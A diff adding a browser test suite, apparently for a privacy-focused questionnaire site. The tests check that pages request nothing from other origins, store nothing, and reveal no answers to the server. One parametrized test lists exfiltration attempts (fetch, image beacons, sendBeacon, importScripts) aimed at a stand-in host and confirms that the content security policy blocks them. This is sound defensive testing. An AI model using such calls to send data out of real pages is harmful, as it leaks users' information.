@@ -1,0 +1,160 @@
+"""No request goes to another origin, none carries an answer, and nothing is stored unasked."""
+
+from http.server import ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from build_tools.preview import SiteHandler
+from tests.browser.conftest import Scan
+from tests.browser.test_scan import ANSWERS
+from tests.servers import running
+
+
+def _page_addresses(site: Path) -> list[str]:
+    return [
+        page.relative_to(site).as_posix().removesuffix("index.html")
+        for page in sorted(site.rglob("*.html"))
+        if page.name != "404.html"
+    ]
+
+
+def _watch(page: Page) -> tuple[list[str], list[str]]:
+    """Note every address that a page asks for, and every complaint in its console."""
+    requests: list[str] = []
+    complaints: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("console", lambda message: complaints.append(message.text) if message.type != "log" else None)
+    page.on("pageerror", lambda error: complaints.append(str(error)))
+    return requests, complaints
+
+
+def test_no_page_asks_another_origin_or_breaks_its_policy(page: Page, site: Path, address: str) -> None:
+    """All pages: nothing from elsewhere, nothing in the console, nothing stored on the device."""
+    requests, complaints = _watch(page)
+    for name in _page_addresses(site):
+        page.goto(address + name, wait_until="networkidle")
+        stored = page.evaluate("[localStorage.length, sessionStorage.length, document.cookie.length]")
+        assert stored == [0, 0, 0], name
+    assert [url for url in requests if not url.startswith((address, "blob:", "data:"))] == []
+    assert complaints == []
+    assert page.context.cookies() == []
+
+
+def test_searching_stays_within_the_site(page: Page, address: str) -> None:
+    """The index is a file of our own, and the search works under the policy."""
+    requests, complaints = _watch(page)
+    page.goto(address)
+    page.locator(".md-search__input").click()
+    page.locator(".md-search__input").press_sequentially("leervraag", delay=20)
+    expect(page.locator(".md-search-result__item").first).to_be_visible()
+    assert [url for url in requests if not url.startswith((address, "blob:", "data:"))] == []
+    assert complaints == []
+
+
+def test_once_python_is_there_nothing_is_asked_until_the_result_stands(scan: Scan) -> None:
+    """The promise of the scan: from the first answer to the result, not one request."""
+    scan.item("trainer-doel").locator("input").first.focus()
+    scan.wait_for_engine()
+    requests, complaints = _watch(scan.page)
+    scan.answer_all(ANSWERS)
+    scan.ask()
+    assert requests == []
+    assert complaints == []
+
+
+def test_the_result_comes_with_the_network_unplugged(scan: Scan, context: BrowserContext) -> None:
+    """What the privacy page tells visitors to try."""
+    scan.item("trainer-doel").locator("input").first.focus()
+    scan.wait_for_engine()
+    context.set_offline(True)
+    scan.answer_all(ANSWERS)
+    scan.ask()
+
+
+def _server_log(site: Path, context: BrowserContext, answers: list[Any]) -> list[str]:
+    """Take the scan and give what the server saw of it, line by line."""
+    seen: list[str] = []
+
+    class Noting(SiteHandler):
+        def do_GET(self) -> None:
+            headers = sorted(f"{name}: {value}" for name, value in self.headers.items() if name != "Host")
+            seen.append(f"{self.command} {self.path} {headers}".replace(str(self.server.server_port), "PORT"))
+            super().do_GET()
+
+        do_POST = do_PUT = do_GET
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), lambda *given: Noting(*given, directory=str(site)))
+    with running(server) as address:
+        scan = Scan(context.new_page(), address).open()
+        scan.answer_all(answers)
+        scan.ask()
+    return sorted(seen)
+
+
+def test_a_server_cannot_tell_one_visitor_from_another_by_the_answers(site: Path, browser: Any) -> None:
+    """Two people with opposite answers leave exactly the same lines, bodies and headers included."""
+    logs = []
+    for answers in ([1] * 36, [5] * 36):
+        context = browser.new_context()
+        logs.append(_server_log(site, context, answers))
+        context.close()
+    assert logs[0] == logs[1]
+    assert len(logs[0]) > 10
+
+
+@pytest.mark.parametrize(
+    ("attempt", "where"),
+    [
+        ("fetch('https://elders.test/')", "page"),
+        ("new Image().src = 'https://elders.test/x.png'", "page"),
+        ("navigator.sendBeacon('https://elders.test/', 'x')", "page"),
+        ("document.body.innerHTML = '<p>x</p>'", "page"),
+        ("new Worker('engine-worker.js')", "page"),
+        ("fetch('https://elders.test/')", "worker"),
+        ("importScripts('https://elders.test/x.js')", "worker"),
+        ("new Function('return 1')()", "worker"),
+        ("import('https://elders.test/x.js')", "worker"),
+    ],
+)
+def test_the_policy_refuses_every_way_out(scan: Scan, attempt: str, where: str) -> None:
+    """In the page, and in a worker that is born as ours is."""
+    page = scan.page
+    blocked: list[str] = []
+    page.on("console", lambda message: blocked.append(message.text) if message.type == "error" else None)
+    requests: list[str] = []
+    page.on("requestfinished", lambda request: requests.append(request.url))
+    outcome = page.evaluate(_IN_PAGE if where == "page" else _IN_WORKER, attempt)
+    assert outcome == "refused" or any("Content Security Policy" in line or "Trusted" in line for line in blocked)
+    assert [url for url in requests if "elders.test" in url] == []
+
+
+# The attempt stands in a script file of the page's own making: what is evaluated from outside skips the policy.
+_IN_PAGE = """async attempt => {
+  const policy = [...document.querySelectorAll('meta')].find(meta => meta.httpEquiv === 'Content-Security-Policy');
+  if (!policy) return 'no policy';
+  try {
+    await {
+      "fetch('https://elders.test/')": () => fetch('https://elders.test/'),
+      "new Image().src = 'https://elders.test/x.png'": () => new Promise((_, no) => {
+        const image = new Image(); image.onerror = no; image.src = 'https://elders.test/x.png'; }),
+      "navigator.sendBeacon('https://elders.test/', 'x')": () => { navigator.sendBeacon('https://elders.test/', 'x');
+        return new Promise((_, no) => document.addEventListener('securitypolicyviolation', no)); },
+      "document.body.innerHTML = '<p>x</p>'": () => { document.body.innerHTML = '<p>x</p>'; },
+      "new Worker('engine-worker.js')": () => new Worker('engine-worker.js'),
+    }[attempt]();
+    return 'allowed';
+  } catch { return 'refused'; }
+}"""
+_IN_WORKER = """attempt => new Promise(resolve => {
+  const policy = window.trustedTypes.defaultPolicy ?? { createScriptURL: url => url };
+  const told = outcome => `postMessage('${outcome}')`;
+  const text = `(async () => { try { await (${attempt}); ${told('allowed')} } catch { ${told('refused')} } })()`;
+  const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
+  let worker;
+  try { worker = new Worker(policy.createScriptURL(url), { type: 'classic' }); } catch { resolve('refused'); return; }
+  worker.onmessage = event => resolve(event.data);
+  worker.onerror = () => resolve('refused');
+})"""
